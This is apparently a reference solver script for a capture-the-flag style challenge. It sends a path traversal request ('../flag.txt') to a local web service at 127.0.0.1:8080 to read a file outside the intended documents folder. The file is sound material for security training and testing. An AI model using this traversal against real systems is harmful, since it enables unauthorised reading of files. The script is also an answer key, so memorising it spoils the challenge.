#!/bin/sh
# Reference solver: walk out of the documents folder with ../
python3 -c "import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:8080/files?name=../flag.txt').read().decode())"
